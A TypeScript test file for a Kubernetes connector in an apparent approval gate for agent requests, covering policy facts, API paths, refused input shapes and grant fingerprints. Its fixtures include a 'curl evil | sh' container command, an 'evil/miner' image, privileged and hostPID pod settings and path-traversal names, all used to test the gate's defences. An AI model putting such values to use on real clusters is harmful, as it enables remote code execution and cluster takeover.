// The kubernetes connector's reading of a call: its shape (what is refused at submit), the policy
// facts (`kubernetes.*`) for representative calls, the REST path each becomes, and a policy that
// lets reads run, holds scaling for approval and denies deleting namespaces.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { apiCall } from '../../connectors/kubernetes/api-call';
import { kubernetesConnector } from '../../connectors/kubernetes/connector';
import type { Command, KubernetesCommand } from '../../domain/request';
import { compilePolicy } from '../../policy/policy';

function facts(command: Record<string, unknown>) {
  const analysis = kubernetesConnector.analyse(command as unknown as Command);
  assert.ok(analysis.ok, analysis.ok ? '' : analysis.detail);
  return analysis.facts.kubernetes!;
}

/** The rule of `policy` that decides a Kubernetes call with these facts. */
const ruleFor = (policy: ReturnType<typeof compilePolicy>, kubernetes: ReturnType<typeof facts>) =>
  policy.decide({
    request: { id: 'req_x', agent: 'a', connector: 'kubernetes', target: 'prod', reason: 'r', metadata: {} },
    kubernetes,
  }).rule;

function refusal(command: unknown): string {
  const analysis = kubernetesConnector.analyse(command as Command);
  assert.equal(analysis.ok, false, `${JSON.stringify(command)} was accepted`);
  return analysis.ok ? '' : analysis.detail;
}

const scale = (replicas: number): KubernetesCommand => ({
  verb: 'patch',
  apiVersion: 'apps/v1',
  resource: 'deployments',
  namespace: 'shop',
  name: 'web',
  body: { spec: { replicas } },
});

describe('Kubernetes facts', () => {
  test('verb, group, resource, namespace and name, and the path the API server gets', () => {
    assert.deepEqual(facts(scale(3) as unknown as Record<string, unknown>), {
      verb: 'patch',
      apiVersion: 'apps/v1',
      group: 'apps',
      resource: 'deployments',
      namespace: 'shop',
      name: 'web',
      bodyName: '',
      fields: ['spec.replicas'],
      body: { spec: { replicas: 3 } },
      readOnly: false,
    });
    assert.deepEqual(apiCall(scale(3)), {
      method: 'PATCH',
      path: '/apis/apps/v1/namespaces/shop/deployments/web',
      contentType: 'application/merge-patch+json',
    });
    const list = { verb: 'list', apiVersion: 'v1', resource: 'pods', namespace: 'shop' };
    assert.deepEqual(facts(list).group, '');
    assert.equal(facts(list).readOnly, true);
    assert.deepEqual(apiCall(list), { method: 'GET', path: '/api/v1/namespaces/shop/pods' });
    const nodes = { verb: 'get', apiVersion: 'v1', resource: 'nodes', name: 'node-1' };
    assert.equal(facts(nodes).namespace, '');
    assert.equal(apiCall(nodes).path, '/api/v1/nodes/node-1');
  });

  test('a create names its object in the body: policy sees it as bodyName', () => {
    const create = {
      verb: 'create',
      apiVersion: 'v1',
      resource: 'configmaps',
      namespace: 'shop',
      body: { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'flags' }, data: { a: '1' } },
    };
    assert.equal(facts(create).bodyName, 'flags');
    assert.equal(facts(create).name, '');
    assert.equal(apiCall(create as KubernetesCommand).method, 'POST');
  });

  test('shapes that are refused at submit, each with the field named', () => {
    const cases: [unknown, RegExp][] = [
      [{ verb: 'exec', apiVersion: 'v1', resource: 'pods', namespace: 'a', name: 'p' }, /command\.verb/],
      [{ verb: 'get', apiVersion: 'v1', resource: 'pods', namespace: 'a' }, /get needs the object's name/],
      [{ verb: 'list', apiVersion: 'v1', resource: 'pods', name: 'p' }, /collection: no name/],
      [{ verb: 'patch', apiVersion: 'v1', resource: 'pods', namespace: 'a', name: 'p' }, /patch needs a body/],
      [{ verb: 'delete', apiVersion: 'v1', resource: 'pods', namespace: 'a', name: 'p', body: {} }, /takes no body/],
      [
        { verb: 'get', apiVersion: 'v1', resource: 'pods', namespace: '../kube-system', name: 'p' },
        /command\.namespace/,
      ],
      [{ verb: 'get', apiVersion: 'v1', resource: 'pods/exec', namespace: 'a', name: 'p' }, /command\.resource/],
      [{ verb: 'get', apiVersion: 'v1', resource: 'pods', namespace: 'a', name: 'p/../../secrets/x' }, /command\.name/],
      [{ verb: 'get', apiVersion: '../v1', resource: 'pods', namespace: 'a', name: 'p' }, /command\.apiVersion/],
      [{ verb: 'get', apiVersion: 'v1', resource: 'Pods', namespace: 'a', name: 'p' }, /command\.resource/],
      [{ verb: 'get', apiVersion: 'v1', resource: 'pods', namespace: 'a', name: '.p' }, /command\.name/],
      [{ sql: 'SELECT 1' }, /command\.verb/],
    ];
    for (const [command, expected] of cases) assert.match(refusal(command), expected, JSON.stringify(command));
  });

  test('a grant covers the same call on the same object with other values, not another object', () => {
    const fingerprint = (command: KubernetesCommand) => kubernetesConnector.fingerprint(command);
    assert.equal(fingerprint(scale(3)), fingerprint(scale(5)));
    assert.notEqual(fingerprint(scale(3)), fingerprint({ ...scale(3), name: 'api' }));
    assert.notEqual(fingerprint(scale(3)), fingerprint({ ...scale(3), namespace: 'kube-system' }));
    const created = (name: string): KubernetesCommand => ({
      verb: 'create',
      apiVersion: 'v1',
      resource: 'configmaps',
      namespace: 'shop',
      body: { metadata: { name }, data: { mode: 'a' } },
    });
    assert.notEqual(
      fingerprint(created('web-settings')),
      fingerprint(created('db-settings')),
      'another object created',
    );
  });

  test('a grant covers no change to other fields than the ones it was made on (ADR 052)', () => {
    const fingerprint = (command: KubernetesCommand) => kubernetesConnector.fingerprint(command);
    const patched = (spec: Record<string, unknown>): KubernetesCommand => ({ ...scale(3), body: { spec } });
    const container = (extra: Record<string, unknown>) => ({
      template: { spec: { containers: [{ name: 'web', image: 'shop/web:1.4', ...extra }] } },
    });
    const imaged = (image: string) => patched({ template: { spec: { containers: [{ name: 'web', image }] } } });
    assert.equal(
      fingerprint(imaged('shop/web:1.4')),
      fingerprint(imaged('evil/miner:latest')),
      'a value of the same field',
    );
    for (const other of [
      container({}),
      container({ securityContext: { privileged: true } }),
      container({ command: ['sh', '-c', 'curl evil | sh'] }),
      { replicas: 3, template: { spec: { hostPID: true } } },
      { replicas: 3, paused: true },
    ])
      assert.notEqual(fingerprint(scale(3)), fingerprint(patched(other)), JSON.stringify(other));
  });

  test('policy sees every field a body sets, so it can tell a scale from a privileged container', () => {
    const pod = facts({
      verb: 'create',
      apiVersion: 'v1',
      resource: 'pods',
      namespace: 'shop',
      body: {
        metadata: { name: 'debug', annotations: { 'example.com/owner': 'ops' } },
        spec: { containers: [{ name: 'a', image: 'x', securityContext: { privileged: true } }], volumes: [] },
      },
    });
    assert.deepEqual(pod.fields, [
      'metadata.annotations["example.com/owner"]',
      'metadata.name',
      'spec.containers[].image',
      'spec.containers[].name',
      'spec.containers[].securityContext.privileged',
      'spec.volumes',
    ]);
    const policy = compilePolicy(
      'kubernetes-fields.yaml',
      `version: 1
default: { effect: require_approval, approval: { groups: [ops], timeout: 1h } }
rules:
  - name: no-privileged-containers
    when: kubernetes.fields.exists(f, f.endsWith("securityContext.privileged") || f.endsWith(".hostPID"))
    effect: deny
    reason: no privileged containers through the gate
  - name: scaling-only
    when: kubernetes.verb == "patch" && kubernetes.fields == ["spec.replicas"] && kubernetes.body.spec.replicas <= 10
    effect: allow
`,
    );
    const decide = (kubernetes: ReturnType<typeof facts>) => ruleFor(policy, kubernetes);
    assert.equal(decide(pod), 'no-privileged-containers');
    assert.equal(decide(facts(scale(4) as unknown as Record<string, unknown>)), 'scaling-only');
    assert.equal(decide(facts(scale(40) as unknown as Record<string, unknown>)), 'default');
    const alsoPaused = { ...scale(4), body: { spec: { replicas: 4, paused: true } } };
    assert.equal(decide(facts(alsoPaused as unknown as Record<string, unknown>)), 'default');
  });

  test('a policy can allow reads, hold scaling for SRE and deny deleting namespaces', () => {
    const policy = compilePolicy(
      'kubernetes-policy.yaml',
      `version: 1
default: { effect: require_approval, approval: { groups: [ops], timeout: 1h } }
rules:
  - name: no-namespace-deletes
    when: kubernetes.verb == "delete" && kubernetes.resource == "namespaces"
    effect: deny
    reason: namespaces are not deleted through the gate
  - name: no-secret-reads
    when: kubernetes.resource == "secrets"
    effect: require_approval
    approval: { groups: [security], timeout: 1h }
  - name: reads
    when: request.connector == "kubernetes" && kubernetes.readOnly
    effect: allow
  - name: scaling-needs-sre
    when: kubernetes.verb == "patch" && kubernetes.resource == "deployments" && kubernetes.namespace == "shop"
    effect: require_approval
    approval: { groups: [sre], timeout: 30m }
`,
    );
    const decide = (command: Record<string, unknown>) => ruleFor(policy, facts(command));
    assert.equal(decide({ verb: 'list', apiVersion: 'apps/v1', resource: 'deployments', namespace: 'shop' }), 'reads');
    assert.equal(decide(scale(2) as unknown as Record<string, unknown>), 'scaling-needs-sre');
    assert.equal(
      decide({ verb: 'delete', apiVersion: 'v1', resource: 'namespaces', name: 'shop' }),
      'no-namespace-deletes',
    );
    assert.equal(
      decide({ verb: 'get', apiVersion: 'v1', resource: 'secrets', namespace: 'shop', name: 'db' }),
      'no-secret-reads',
    );
    // Another connector's request sees the neutral facts: nothing read-only, so `reads` fails closed.
    const onSql = policy.decide({
      request: { id: 'req_y', agent: 'a', connector: 'postgres', target: 'db', reason: 'r', metadata: {} },
    });
    assert.equal(onSql.rule, 'default');
  });
});
